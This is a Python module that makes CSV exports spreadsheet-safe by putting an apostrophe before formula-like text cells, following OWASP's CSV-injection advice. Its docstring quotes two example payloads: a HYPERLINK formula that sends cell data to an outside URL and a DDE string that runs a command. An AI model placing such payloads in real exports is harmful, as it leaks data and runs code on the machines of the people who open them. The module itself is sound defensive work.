"""CSV files people open in a spreadsheet: a cell is never read as a formula.

A fund's file can carry ``=HYPERLINK("http://…?d="&A1)`` or ``+cmd|' /C calc'!A0``
in a name; copied as is into a CSV, the spreadsheet that opens it runs it.
Every text cell that starts with a character a spreadsheet reads as the start
of a formula (``= + - @``, tab, carriage return) gets a leading apostrophe,
which spreadsheets show as text and do not display (OWASP "CSV injection").
Every CSV the project writes goes through :func:`write_csv`.
"""

from __future__ import annotations

import io
from collections.abc import Sequence
from pathlib import Path
from typing import IO, Any

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv as pacsv

#: Characters a spreadsheet reads as the start of a formula.
FORMULA_CHARS = "=+-@\t\r"
FORMULA_START = r"^[=+\-@\t\r]"  # the same, as an RE2 pattern for Arrow


def cell(value: Any) -> Any:
    """One value, made safe for a spreadsheet (text only; numbers are left alone)."""
    if isinstance(value, str) and value[:1] and value[0] in FORMULA_CHARS:
        return "'" + value
    return value


def neutralise(table: pa.Table) -> pa.Table:
    """Every text column with formula-like cells prefixed by an apostrophe."""
    for i, field in enumerate(table.schema):
        if not (pa.types.is_string(field.type) or pa.types.is_large_string(field.type)):
            continue
        column = table.column(i)
        risky = pc.fill_null(pc.match_substring_regex(column, FORMULA_START), False)
        if not pc.any(risky).as_py():
            continue
        prefixed = pc.binary_join_element_wise(pa.scalar("'", field.type), column, "")
        table = table.set_column(i, field, pc.if_else(risky, prefixed, column))
    return table


def write_csv(
    data: pa.Table | Sequence[dict[str, Any]],
    sink: Path | IO[bytes],
    *,
    bom: bool = False,
) -> None:
    """``;``-separated, quoted where needed, formula-safe; ``bom`` for spreadsheets that
    otherwise guess the encoding wrong (the funds' staff)."""
    table = data if isinstance(data, pa.Table) else pa.Table.from_pylist(list(data))
    options = pacsv.WriteOptions(delimiter=";", quoting_style="needed")
    if isinstance(sink, Path):
        with sink.open("wb") as fh:
            _write(neutralise(table), fh, options, bom)
    else:
        _write(neutralise(table), sink, options, bom)


def _write(table: pa.Table, fh: IO[bytes], options: pacsv.WriteOptions, bom: bool) -> None:
    if bom:
        fh.write("\ufeff".encode())
    pacsv.write_csv(table, fh, options)


def csv_bytes(data: pa.Table | Sequence[dict[str, Any]]) -> bytes:
    sink = io.BytesIO()
    write_csv(data, sink)
    return sink.getvalue()
